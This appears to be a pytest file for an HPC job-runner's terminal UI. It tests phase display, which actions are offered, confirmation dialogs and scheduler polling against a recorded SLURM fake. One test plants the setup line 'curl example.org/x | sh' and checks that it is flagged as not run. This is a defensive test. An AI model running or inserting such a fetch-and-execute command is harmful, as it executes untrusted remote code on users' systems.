"""The TUI tells each run's phase as :func:`hpc_runner.control.phase.derive_phase` does, offers
only the actions that fit it, names what an action will do, and asks the scheduler when told.

Real app under Pilot, real status files (the real writer) and ``job.json`` files, the real
:class:`SchedulerPoller` and ``query_slurm`` parsing; the scheduler's answers come from a
recorded command runner (:class:`tests.tui_support.RecordedScheduler`, a declared fake: an
OUT_OF_MEMORY end, a JobArrayTaskLimit wait or a requeue cannot be made on demand here; the
real cluster's phases are tested in test_slurm_e2e.py and test_tui.py).
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from textual.widgets import Button

from hpc_runner.control.scheduler import SchedulerPoller
from hpc_runner.stream.records import ModelLocation
from hpc_runner.stream.runs import STATUS_FILE, STOP_FILE
from hpc_runner.stream.status import TrainingState
from hpc_runner.tui.confirm import ConfirmDialog
from hpc_runner.tui.detail_screen import DetailScreen
from hpc_runner.tui.run_info import RunInfo
from hpc_runner.tui.runs_screen import RunsScreen
from tests.test_tui import RecordingApp, cell, select, started, until
from tests.tui_support import (
    T0,
    FakeTraining,
    RecordedScheduler,
    losses,
    screen_text,
    slurm_commands_on_path,
    timezone,
    write_job,
    write_run_spec,
)

pytestmark = pytest.mark.filterwarnings("ignore:Callback with id:RuntimeWarning")

#: The app's clock: every fixture record is older than this.
NOW = T0 + 2000
#: When the running jobs started (sacct's Start, read in UTC): before any of their records.
START = "2023-11-14T22:00:00"


def training(run_dir: Path, start: float = T0) -> FakeTraining:
    return FakeTraining(run_dir, start=start, job=None).begin(4, 5).epoch(0, losses(5), 0.5)


def empty(run_dir: Path) -> None:
    """A run just submitted: ``submit`` creates its status file empty."""
    run_dir.mkdir(parents=True)
    (run_dir / STATUS_FILE).touch()


def crashed(run_dir: Path) -> None:
    training(run_dir).crash("ValueError", "axes YX do not match the data shape (2, 64, 64)")


@dataclass(frozen=True)
class Case:
    """One run: what its file says, what the scheduler answers, what the row must read."""

    name: str
    job: str
    write: Callable[[Path], object]
    sacct: str
    squeue: str
    row: str
    offered: frozenset[str]


NONE: frozenset[str] = frozenset()
LIVE, RUNNING = frozenset({"cancel"}), frozenset({"stop", "cancel"})
OVER = frozenset({"resume"})

CASES = [
    Case(
        "queued", "7001_1", empty,
        f"7001_0|RUNNING|None|0:0|{START}\n7001_[1-2%1]|PENDING|None|0:0|Unknown",
        "7001_[1-2%1]|PENDING|JobArrayTaskLimit",
        "QUEUED (JobArrayTaskLimit)", LIVE,
    ),
    Case(
        "requeued", "7002", training,
        "7002|PENDING|None|0:0|Unknown", "7002|PENDING|BeginTime",
        "REQUEUED (attempt 1 waits; BeginTime)", LIVE,
    ),
    Case(
        "starting", "7003", empty,
        f"7003|RUNNING|None|0:0|{START}", "", "STARTING (attempt 0 starting)", RUNNING,
    ),
    Case(
        "stalled", "7004", training,
        f"7004|RUNNING|None|0:0|{START}", "",
        "STALLED (no record for 33m06s (this run's longest normal pause: 2s))", RUNNING,
    ),
    Case(
        "training", "7005", lambda d: training(d, start=NOW - 60),
        f"7005|RUNNING|None|0:0|{START}", "", "TRAINING", RUNNING,
    ),
    Case(
        "oom", "7006", training,
        f"7006|OUT_OF_MEMORY|None|0:125|{START}", "", "LOST (out of memory)", OVER,
    ),
    Case(
        "crashed", "7007", crashed,
        f"7007|FAILED|None|1:0|{START}", "",
        "CRASHED (ValueError: axes YX do not match the data shape (2, 64, 64))", OVER,
    ),
    Case(
        "cancelled", "7008", training,
        f"7008|CANCELLED by 1000|None|0:15|{START}", "", "CANCELLED (by 1000)", OVER,
    ),
    Case(
        "done", "7009", lambda d: training(d).finish(),
        f"7009|COMPLETED|None|0:0|{START}", "", "DONE", NONE,
    ),
    Case(
        "stopped", "7010", lambda d: training(d).finish(TrainingState.STOPPED),
        f"7010|COMPLETED|None|0:0|{START}", "", "STOPPED (stopped on request)", OVER,
    ),
]  # fmt: skip

KEYS = {"stop": "s", "cancel": "c", "resume": "r"}
LABELS = {"stop": "s Stop", "cancel": "c Cancel job", "resume": "r Resume"}


@pytest.fixture
def scene(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[RecordedScheduler]:
    """Every case as a run below ./runs, with its job.json; the recorded scheduler."""
    monkeypatch.chdir(tmp_path)
    for case in CASES:
        run_dir = Path("runs") / case.name
        case.write(run_dir)
        write_job(run_dir, case.job)
    recorder = RecordedScheduler(
        "\n".join(case.sacct for case in CASES) + "\n",
        "\n".join(case.squeue for case in CASES if case.squeue) + "\n",
    )
    # (the actions' own questions, e.g. resume's "has every job ended?", get the same answers)
    slurm_commands_on_path(tmp_path / "bin", monkeypatch, recorder.answers)
    with timezone("UTC"):  # sacct's Start is the controller's local time
        yield recorder


def make_app(recorder: RecordedScheduler) -> RecordingApp:
    # The poller would ask again only after an hour: every later query is a forced one.
    poller = SchedulerPoller(min_interval_s=3600, run=recorder)
    return RecordingApp(
        Path("runs"), clock=lambda: NOW, scheduler_interval=3600, scheduler_poller=poller
    )


async def answered(pilot, app: RecordingApp):
    table = await started(pilot)
    runs = sum(1 for run_dir in Path("runs").iterdir() if (run_dir / "status.jsonl").exists())
    await until(pilot, lambda: len(app.entries) == runs)  # every run found, then every answer
    await until(pilot, lambda: all(e.scheduler is not None for e in app.entries.values()))
    await until(pilot, lambda: all(k in table.visible_keys for k in app.entries))
    await pilot.pause()
    return table


def footer(app: RecordingApp) -> str:
    return screen_text(app).splitlines()[-1]


def key_of(name: str) -> str:
    return str(Path("runs") / name)


async def test_each_phase_reads_as_derived_with_its_reason(scene: RecordedScheduler) -> None:
    app = make_app(scene)
    async with app.run_test(size=(200, 30)) as pilot:
        table = await answered(pilot, app)
        shown = screen_text(app)
        layout = table.column_layout
        width = layout.widths[layout.keys.index("phase")]
        for case in CASES:
            text = cell(table, key_of(case.name), "phase")
            assert text == case.row, case.name
            # on screen: the start of it, truncated to the column with an ellipsis
            visible = text if len(text) <= width else text[: width - 1] + "…"
            assert f" {case.name} " in shown and f" {visible} " in shown, (case.name, visible)
        # The status line counts phases and says how old the scheduler's answers are (the
        # answers are real time, the app's clock is fixed before them: 0s).
        top = shown.splitlines()[0]
        assert "10 runs · 1 training · 1 starting · 1 requeued · 1 queued · 1 stalled" in top
        assert "1 lost · 1 crashed · 1 cancelled · 1 stopped · 1 done" in top
        assert "│ scheduler 0s ago │" in top
        # Sorted by phase: live first, then what needs attention, then what is over.
        await pilot.press("greater_than_sign", "o")
        assert [app.entries[k].label for k in table.visible_keys] == [
            "training", "starting", "requeued", "queued", "stalled", "oom", "crashed",
            "cancelled", "stopped", "done",
        ]  # fmt: skip


async def test_the_detail_view_tells_phase_reason_scheduler_model_and_psnr(
    scene: RecordedScheduler,
) -> None:
    done = Path("runs") / "done"
    best = done / "work" / "checkpoints" / "best" / "epoch=2-val_loss=0.1485.ckpt"
    FakeTraining(done, start=T0 + 100, job=None).model(
        ModelLocation(
            checkpoint=str(done / "work" / "checkpoints" / "last.ckpt"),
            best_checkpoint=str(best),
            best_val_loss=0.1485,
            best_epoch=2,
        )
    ).evaluation("/data/clean.tif", 20.125, 27.3149)
    app = make_app(scene)
    async with app.run_test(size=(140, 40)) as pilot:
        table = await answered(pilot, app)
        select(table, key_of("oom"))
        await pilot.press("enter")
        detail = app.screen
        assert isinstance(detail, DetailScreen)
        info = detail.query_one(RunInfo)
        await until(pilot, lambda: detail.meta is not None)
        text = str(info.content)
        assert "phase      LOST\nreason     out of memory\njob        7006\n" in text
        assert "scheduler  OUT_OF_MEMORY, asked 0s ago\nfile says  TRAINING" in text
        assert "oom  LOST  elapsed" in screen_text(app)  # the title
        await pilot.press("escape")
        select(table, key_of("done"))
        await pilot.press("enter")
        detail = app.screen
        assert isinstance(detail, DetailScreen)
        await until(pilot, lambda: detail.meta is not None)
        text = str(detail.query_one(RunInfo).content)
        assert "best model       work/checkpoints/best/epoch=2-val_loss=0.1485.ckpt" in text
        assert "  saved at       val_loss 0.1485, epoch 3/4" in text
        assert "last checkpoint  work/checkpoints/last.ckpt" in text
        assert "psnr             27.31 dB (input 20.12 dB) against clean.tif" in text


async def test_only_the_actions_that_fit_the_phase_are_offered(scene: RecordedScheduler) -> None:
    app = make_app(scene)
    async with app.run_test(size=(140, 30)) as pilot:
        table = await answered(pilot, app)
        for case in CASES:
            select(table, key_of(case.name))
            for action, label in LABELS.items():
                wanted = action in case.offered
                await until(pilot, lambda w=wanted, lb=label: (lb in footer(app)) == w)
                binding = app.screen.active_bindings[KEYS[action]].binding
                assert (binding.action == f"{action}_run") == wanted, (case.name, action)
        # Pressed anyway: nothing happens but a message saying why (the command line's words).
        refusals = [
            ("done", "s", "done is DONE: the training finished; there is nothing to stop"),
            ("done", "r", "done is DONE: the training finished; there is nothing to resume"),
            ("queued", "s", "queued is QUEUED (JobArrayTaskLimit): its job has not started "
             "training; `hpc-runner cancel` takes it off the queue"),
            ("queued", "r", "queued is QUEUED (JobArrayTaskLimit): its job is still alive; "
             "stop or cancel it first"),
            ("oom", "c", "oom is LOST (out of memory): nothing runs any more; "
             "`hpc-runner resume` continues it"),
            ("requeued", "s", "requeued is REQUEUED (attempt 1 waits; BeginTime): its job has "
             "not started training; `hpc-runner cancel` takes it off the queue"),
        ]  # fmt: skip
        for name, key, message in refusals:
            select(table, key_of(name))
            await pilot.press(key)
            assert isinstance(app.screen, RunsScreen), (name, key)
            assert app.notices[-1] == message
        assert not any((Path("runs") / case.name / STOP_FILE).exists() for case in CASES)
        assert app.outcomes == []


def buttons(dialog: ConfirmDialog) -> list[str]:
    return [str(button.label) for button in dialog.query(Button) if button.display]


async def test_confirmations_name_what_will_happen(scene: RecordedScheduler) -> None:
    write_run_spec(Path("runs") / "crashed", extra_setup=("curl example.org/x | sh",))
    stopped = Path("runs") / "stopped"
    write_run_spec(stopped)
    checkpoint = stopped / "work" / "checkpoints" / "last.ckpt"
    checkpoint.parent.mkdir(parents=True)
    checkpoint.write_bytes(b"weights")
    app = make_app(scene)
    async with app.run_test(size=(140, 40)) as pilot:
        table = await answered(pilot, app)

        async def ask(name: str, key: str) -> ConfirmDialog:
            select(table, key_of(name))
            await pilot.press(key)
            dialog = app.screen
            assert isinstance(dialog, ConfirmDialog), (name, key)
            return dialog

        dialog = await ask("training", "s")
        assert "Stop training after the current batch and save a checkpoint?" in dialog.question
        assert buttons(dialog) == ["Stop (y)", "Don't stop (n)"]
        await pilot.press("n")
        dialog = await ask("training", "c")
        assert dialog.question.plain.startswith("Cancel job 7005 (RUNNING) of training?")
        assert "The training stops without a final checkpoint" in dialog.question.plain
        assert buttons(dialog) == ["Cancel job (y)", "Keep it (n)"]
        await pilot.press("n")
        dialog = await ask("queued", "c")
        assert dialog.question.plain.startswith("Cancel job 7001_1 (PENDING) of queued?")
        assert "leaves the queue before it starts" in dialog.question.plain
        assert buttons(dialog) == ["Cancel job (y)", "Keep it (n)"]
        await pilot.press("n")
        # Resume: the plan is worked out on a thread (it asks the scheduler), then shown.
        dialog = await ask("crashed", "r")
        await until(pilot, lambda: dialog.ready)
        lines = dialog.question.plain.splitlines()
        assert lines[0] == "Resume crashed?"
        assert "  attempt 1 from the start: no checkpoint" in lines
        assert any(line.startswith("  setup lines run before the job (profile example_site_a100")
                   for line in lines)  # fmt: skip
        assert "    module purge" in lines
        assert "  not run - setup lines in run.yaml that your profile does not have:" in lines
        assert "    curl example.org/x | sh" in lines
        assert buttons(dialog) == ["Resume (y)", "Don't resume (n)"]
        await pilot.press("n")
        dialog = await ask("stopped", "r")
        await until(pilot, lambda: dialog.ready)
        assert f"  attempt 1 from {checkpoint.absolute()}" in dialog.question.plain.splitlines()
        await pilot.press("n")
        assert isinstance(app.screen, RunsScreen) and app.outcomes == []
        assert not any(
            "Keep running" in str(b.label) for b in app.screen.query(Button)
        )  # never offered on any screen


async def test_ctrl_r_and_every_action_ask_the_scheduler_at_once(
    scene: RecordedScheduler,
) -> None:
    app = make_app(scene)
    async with app.run_test(size=(140, 30)) as pilot:
        table = await answered(pilot, app)
        before = scene.count()
        await pilot.press("ctrl+r")  # as in k9s (g is vim's "first row" now)
        await until(pilot, lambda: scene.count() == before + 1)
        # every job in one query, ended ones too: SLURM may have requeued one under its id
        # (between polls, an ended job's answer stands; see test_scheduler.py)
        assert sorted(scene.asked()) == [str(job) for job in range(7001, 7011)]
        # After an action, its run's job alone is asked about (the real stop: STOP is written).
        select(table, key_of("training"))
        await pilot.press("s", "y")
        await until(pilot, lambda: bool(app.outcomes))
        assert app.outcomes[0].ok, app.outcomes[0].text
        assert (Path("runs") / "training" / STOP_FILE).exists()
        await until(pilot, lambda: scene.count() == before + 2)
        assert scene.asked() == ["7005"]
